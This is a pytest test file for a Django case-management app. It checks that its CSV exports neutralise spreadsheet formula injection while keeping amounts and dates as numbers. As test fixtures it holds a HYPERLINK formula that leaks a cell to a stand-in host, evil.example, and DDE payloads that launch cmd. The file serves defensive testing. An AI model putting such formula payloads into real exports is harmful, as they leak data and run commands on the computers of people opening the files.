"""CSV exports never hand a spreadsheet a formula: a text cell that begins with = + - @, a tab or a
carriage return is written as text (prefixed with an apostrophe, which Excel and LibreOffice show
as a text marker and do not evaluate). Amounts, counts and dates are typed values, not text: a
negative number stays a number."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from cases import exports
from cases.models import Case
from cases.tests.conftest import ensure_stages, make_case, make_client, make_user

pytestmark = pytest.mark.django_db

ACTIVE = reverse("cases:active")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Kliknij")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def export_rows(client, **params) -> list[list[str]]:
    response = client.get(ACTIVE, {"_export": "csv", **params})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.fixture
def staff_client(client):
    ensure_stages()
    client.force_login(make_user("anna.staff", group="Staff"))
    return client


@pytest.mark.parametrize(
    "name",
    [HYPERLINK, DDE, "+48 600 100 200 Sp. z o.o.", "-Minus Sp. z o.o.", "\tTab Sp. z o.o.", "\rCR Sp. z o.o."],
)
def test_a_client_name_that_looks_like_a_formula_is_written_as_text(staff_client, name):
    make_case(client=make_client(name, emails=("=cmd|' /C calc'!A0@evil.example",)), number="FV/1/2026")
    header, row = export_rows(staff_client)
    by_column = dict(zip(header, row, strict=True))
    assert by_column["kontrahent"] == "'" + name
    assert by_column["numer faktury"] == "FV/1/2026"  # ordinary text is untouched


def test_an_invoice_number_beginning_with_a_formula_character_is_text_too(staff_client):
    make_case(client=make_client("Zwykła Firma"), number="=1+2")
    header, row = export_rows(staff_client)
    assert dict(zip(header, row, strict=True))["numer faktury"] == "'=1+2"


def test_negative_days_past_due_stay_a_number(staff_client):
    """A case not yet due has negative days past due: a number, not neutralised text."""
    make_case(client=make_client("Przed Terminem Sp. z o.o."), days_past_due=-2)
    header, row = export_rows(staff_client)
    assert dict(zip(header, row, strict=True))["dni po terminie"] == "-2"
    assert Case.objects.count() == 1


def test_a_negative_amount_stays_a_number():
    """The database holds no negative amounts today (check constraints); should a correction ever
    bring one, the money column still writes it as a number."""
    assert exports._csv_cell(Decimal("-12.50")) == "-12,50"
    assert exports._csv_cell(-3) == "-3"
    assert exports._csv_cell("-12,50") == "'-12,50"  # the same characters as text are neutralised


def test_the_export_command_neutralises_text_in_csv_and_keeps_json_as_stored(capsys):
    ensure_stages()
    make_case(client=make_client(HYPERLINK), number="@SUM(1+1)", gross=10000)
    call_command("export_cases", format="csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["client_name"] == "'" + HYPERLINK
    assert rows[0]["invoice_number"] == "'@SUM(1+1)"
    assert rows[0]["gross"] == "10000"
    call_command("export_cases", format="json")
    assert json.loads(capsys.readouterr().out)[0]["client_name"] == HYPERLINK
